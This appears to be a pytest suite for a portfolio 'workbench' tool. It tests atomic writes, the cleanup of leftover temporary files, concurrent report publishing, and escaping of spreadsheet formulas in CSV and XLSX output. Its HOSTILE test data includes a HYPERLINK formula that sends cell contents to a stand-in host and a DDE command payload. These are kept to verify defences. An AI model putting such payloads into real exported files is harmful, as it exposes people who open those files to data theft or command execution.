"""Outputs: nothing lost, nothing overwritten wrongly, nothing runs as a formula.

Two reports into one directory publish one run's files whole; scratch and temporary files a killed
run left are swept (a live run's are kept); `--output` writes through symlinks and refuses
directories, devices and fifos; every CSV the package writes guards formula starters.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import openpyxl
import pytest

from workbench import reports
from workbench.cli import main
from workbench.errors import InputError
from workbench.interactive.session import ScenarioBook
from workbench.io.files import FORMULA_START, STALE_AFTER, write_atomic
from workbench.io.read import load_portfolio
from workbench.io.write import save_portfolio
from workbench.model.portfolio import Correlation
from workbench.pipeline import LiveEngine
from workbench.reports.run import ReportJob
from workbench.settings import Settings

from conftest import initiative, portfolio

HOSTILE = ['=HYPERLINK("http://x.test/?q="&A1, "click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "'=quoted", "plain"]


@pytest.fixture
def live_pid():
    """The pid of a process that is alive for the whole test (not this one)."""
    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    yield proc.pid
    proc.kill()
    proc.wait()


@pytest.fixture
def dead_pid():
    """The pid of a process that has exited (as one killed with -9 would have)."""
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


# --- write_atomic: symlinks, directories, devices, fifos -------------------------------------------


def test_write_atomic_writes_through_a_symlink_and_keeps_the_link(tmp_path):
    target, link = tmp_path / "real.csv", tmp_path / "link.csv"
    target.write_text("old")
    target.chmod(0o640)
    link.symlink_to("real.csv")
    write_atomic(link, "new")
    assert link.is_symlink() and os.readlink(link) == "real.csv"
    assert target.read_text() == "new" and target.stat().st_mode & 0o777 == 0o640
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to("made.csv")  # a link to a file not yet there: the file is made where it points
    write_atomic(dangling, b"x")
    assert dangling.is_symlink() and (tmp_path / "made.csv").read_bytes() == b"x"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dangling.csv", "link.csv", "made.csv", "real.csv"]


def test_write_atomic_refuses_directories_fifos_and_devices(tmp_path):
    folder, fifo = tmp_path / "out", tmp_path / "pipe"
    folder.mkdir()
    os.mkfifo(fifo)
    with pytest.raises(InputError, match="is a directory; give a file name"):
        write_atomic(folder, "x")
    with pytest.raises(InputError, match="is a fifo"):
        write_atomic(fifo, "x")
    with pytest.raises(InputError, match="is a device; give a regular file"):
        write_atomic("/dev/null", "x")
    link = tmp_path / "to-null"
    link.symlink_to("/dev/null")
    with pytest.raises(InputError, match=r"to-null \(-> /dev/null\): is a device"):
        write_atomic(link, "x")
    assert folder.is_dir() and not list(folder.iterdir()) and stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode) and link.is_symlink()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "pipe", "to-null"]  # no temporary file left


def test_cli_output_refuses_a_fifo_or_directory_with_exit_2_before_any_work(tmp_path, capsys):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    assert main(["score", "--demo", "--samples", "1000", "-o", str(fifo)]) == 2
    assert capsys.readouterr().err == f"{fifo}: is a fifo (named pipe); give a regular file\n"
    assert main(["score", "--demo", "--samples", "1000", "-o", str(tmp_path)]) == 2
    assert capsys.readouterr().err == f"{tmp_path}: is a directory; give a file name\n"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    link = tmp_path / "scores.csv"
    link.symlink_to(tmp_path / "kept.csv")
    assert main(["score", "--demo", "--samples", "1000", "--format", "csv", "-o", str(link)]) == 0
    assert link.is_symlink() and (tmp_path / "kept.csv").read_text().startswith("id,name,")


# --- stale scratch and temporary files ------------------------------------------------------------


def test_write_atomic_sweeps_temporary_files_of_dead_or_old_runs_but_not_of_live_ones(tmp_path, live_pid, dead_pid):
    dead = tmp_path / f".out.json.{dead_pid}-0badc0de.tmp"
    live = tmp_path / f".out.json.{live_pid}-0badc0de.tmp"
    old = tmp_path / f".out.json.{live_pid}-0000aaaa.tmp"  # pids are reused: a day-old file is a leftover
    for p in (dead, live, old):
        p.write_text("partial")
    os.utime(old, (time.time() - STALE_AFTER - 60,) * 2)
    write_atomic(tmp_path / "out.json", "{}")
    assert not dead.exists() and not old.exists()
    assert live.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([live.name, "out.json"])


def test_write_atomic_sweeps_every_leftover_in_the_directory_not_only_its_own_files(tmp_path, live_pid, dead_pid):
    # A killed `-o a.csv` left its temporary file, and a killed report its scratch notebook: the
    # next write of *any* file into the directory removes them; another live run's files stay.
    killed = [tmp_path / f".a.csv.{dead_pid}-0badc0de.tmp", tmp_path / f".Q-quarterly.{dead_pid}-12345678.running.ipynb",
              tmp_path / f".c.csv.{live_pid}-0000aaaa.tmp"]  # a day old: its pid may be another process's now
    running = [tmp_path / f".a.csv.{live_pid}-0badc0de.tmp", tmp_path / f".R-sensitivity.{live_pid}-abcdef01.running.ipynb"]
    unrelated = [tmp_path / ".a.csv.tmp", tmp_path / f".a.csv.{dead_pid}-nothex00.tmp", tmp_path / ".gitignore",
                 tmp_path / f"a.csv.{dead_pid}-0badc0de.tmp"]  # not what scratch_name makes: never touched
    for p in killed + running + unrelated:
        p.write_text("partial")
    os.utime(killed[2], (time.time() - STALE_AFTER - 60,) * 2)
    write_atomic(tmp_path / "b.csv", "id\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in [*running, *unrelated,
                                                                                 tmp_path / "b.csv"])


def test_write_atomic_leaves_no_temporary_file_when_the_write_fails(tmp_path, monkeypatch):
    def full(*args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(OSError, match="No space"):
        write_atomic(tmp_path / "out.json", "{}")
    assert list(tmp_path.iterdir()) == []


# --- two reports into one directory ---------------------------------------------------------------


def _fake_report(monkeypatch):
    """Stand-ins for papermill and the HTML export that tag every output with the run's seed; run
    2's kernel finishes once run 1 has written its JSON, and run 1 then pauses for 0.5 s."""
    import papermill as pm

    real_write = reports.run.write_atomic
    json_written = threading.Event()

    def execute(template, output, parameters, **kwargs):
        seed = parameters["settings"]["seed"]
        if seed == 2:
            assert json_written.wait(30)
        nb = nbformat.v4.new_notebook()
        cell = nbformat.v4.new_code_cell("record", metadata={"tags": [reports.run.DATA_TAG]})
        cell.outputs = [nbformat.v4.new_output("display_data", data={"application/json": {"run": seed}})]
        nb.cells.append(cell)
        nbformat.write(nb, output)

    def slow_write(path, data):
        real_write(path, data)
        if str(path).endswith(".json") and '"run": 1' in data:
            json_written.set()
            time.sleep(0.5)

    monkeypatch.setattr(pm, "execute_notebook", execute)
    monkeypatch.setattr(reports.run, "to_html", lambda nb, remove_tags: f"<p>run {nb.cells[0].outputs[0].data}</p>")
    monkeypatch.setattr(reports.run, "write_atomic", slow_write)


def _published_run(out: Path, name: str) -> set:
    data = json.loads((out / f"{name}.json").read_text())["run"]
    html = (out / f"{name}.html").read_text()
    notebook = nbformat.read(str(out / f"{name}.ipynb"), as_version=4).cells[0].outputs[0].data["application/json"]
    return {data, int(html.split("'run': ")[1][0]), notebook["run"]}


def test_two_concurrent_reports_publish_one_run_whole(tmp_path, monkeypatch):
    _fake_report(monkeypatch)
    out = tmp_path / "reports"
    jobs = [ReportJob("", "Q", "", Settings.from_mapping({"seed": seed})) for seed in (1, 2)]
    threads = [threading.Thread(target=reports.run.run_report, args=("quarterly", job, out), kwargs={"name": "Q"})
               for job in jobs]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    # Run 2 came to publish while run 1 was between its JSON and HTML: it waited, and won whole.
    assert _published_run(out, "Q") == {2}
    assert sorted(p.name for p in out.iterdir()) == ["Q.html", "Q.ipynb", "Q.json"]


def test_two_real_concurrent_reports_and_a_killed_runs_leftovers(tmp_path, live_pid, dead_pid):
    out = tmp_path / "reports"
    out.mkdir()
    name = "2026Q4-quarterly"
    killed = [out / f".{name}.{dead_pid}-0badc0de.running.ipynb", out / f".{name}.html.{dead_pid}-0badc0de.tmp"]
    running = out / f".{name}.{live_pid}-0badc0de.running.ipynb"  # a live run's: never removed
    for p in (*killed, running):
        p.write_text("{}")
    args = ["report", "quarterly", "--demo", "--quarter", "2026Q4", "--budget", "40", "--samples", "200",
            "--scenarios", "50", "-o", str(out)]
    procs = [subprocess.Popen([sys.executable, "-m", "workbench", *args, "--seed", seed], stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True) for seed in ("5550123", "5550456")]
    for proc in procs:
        _, err = proc.communicate(timeout=600)
        assert proc.returncode == 0, err
    record = json.loads((out / f"{name}.json").read_text())
    seed = str(record["settings"]["seed"])
    other = ({"5550123", "5550456"} - {seed}).pop()
    html = (out / f"{name}.html").read_text()
    notebook = (out / f"{name}.ipynb").read_text()
    assert seed in html and other not in html
    assert seed in notebook and other not in notebook
    assert sorted(p.name for p in out.iterdir()) == sorted([running.name, *(f"{name}{e}" for e in
                                                                           (".html", ".ipynb", ".json"))])


# --- formulas --------------------------------------------------------------------------------------


def _hostile_portfolio(tab: bool = False):
    inis = [initiative(f"i{k}", name=text, team=text, cost=1.5, extra={"notes": text, "=calc": "-x"})
            for k, text in enumerate(HOSTILE)]
    # A leading tab (a formula starter too) only where the reader keeps it: the readers strip text cells.
    inis.append(initiative("=x", name="ok", cost=2.0, extra={"notes": "\t=1+1" if tab else 7, "=calc": "-x"}))
    return portfolio(*inis, correlations=[Correlation(("=x", "reach"), ("i0", "reach"), -0.5)])


def _formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: a formula starter first, and not a plain number such as -0.5."""
    def number(c: str) -> bool:
        try:
            float(c)
        except ValueError:
            return False
        return True

    return [c for c in cells if c.startswith(FORMULA_START) and not number(c)]


def _cells(path: Path) -> list[str]:
    return [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for c in row]


def test_saved_csv_and_its_correlations_never_start_a_cell_with_a_formula(tmp_path):
    path = save_portfolio(_hostile_portfolio(tab=True), tmp_path / "p.csv")
    cells = _cells(path) + _cells(tmp_path / "p.correlations.csv")
    assert not _formulas(cells)
    assert '\'=HYPERLINK("http://x.test/?q="&A1, "click")' in cells and "'+cmd|' /C calc'!A0" in cells
    assert "''=quoted" in cells and "'=x" in cells and "'=x.reach" in cells and "'\t=1+1" in cells
    assert "'=calc" in cells and "'-x" in cells
    assert "-0.5" in cells and "1.5" in cells  # numbers stay numbers


def test_scenario_csv_export_guards_formulas(tmp_path):
    book = ScenarioBook(LiveEngine(_hostile_portfolio()))
    book.save("s", Settings.from_mapping({"budget": 5}))
    paths = book.export("s", tmp_path / "s.csv")
    cells = [c for p in paths if p.suffix == ".csv" for c in _cells(p)]
    assert cells and not _formulas(cells)


def test_saved_csv_reads_back_identical(tmp_path):
    saved = _hostile_portfolio()
    loaded = load_portfolio(save_portfolio(saved, tmp_path / "p.csv"))
    assert loaded.ids == saved.ids and loaded.names == saved.names
    assert [i.team for i in loaded] == [i.team for i in saved]
    assert [i.extra for i in loaded] == [{k: str(v) for k, v in i.extra.items()} for i in saved]
    assert loaded.correlations == saved.correlations


def test_xlsx_text_is_a_string_cell_never_a_formula(tmp_path):
    path = save_portfolio(_hostile_portfolio(), tmp_path / "p.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None}
    assert cells["+cmd|' /C calc'!A0"] == cells["=x"] == cells['=HYPERLINK("http://x.test/?q="&A1, "click")'] == "s"
    assert cells[1.5] == "n"


def test_cli_csv_guards_column_names_too():
    import pandas as pd

    from workbench.views.output import csv_safe

    frame = pd.DataFrame({"=share Growth": ["=a", "b"], "value": [-1.0, 2.0]})
    text = csv_safe(frame).to_csv(index=False, lineterminator="\n")
    assert text == "'=share Growth,value\n'=a,-1.0\nb,2.0\n"
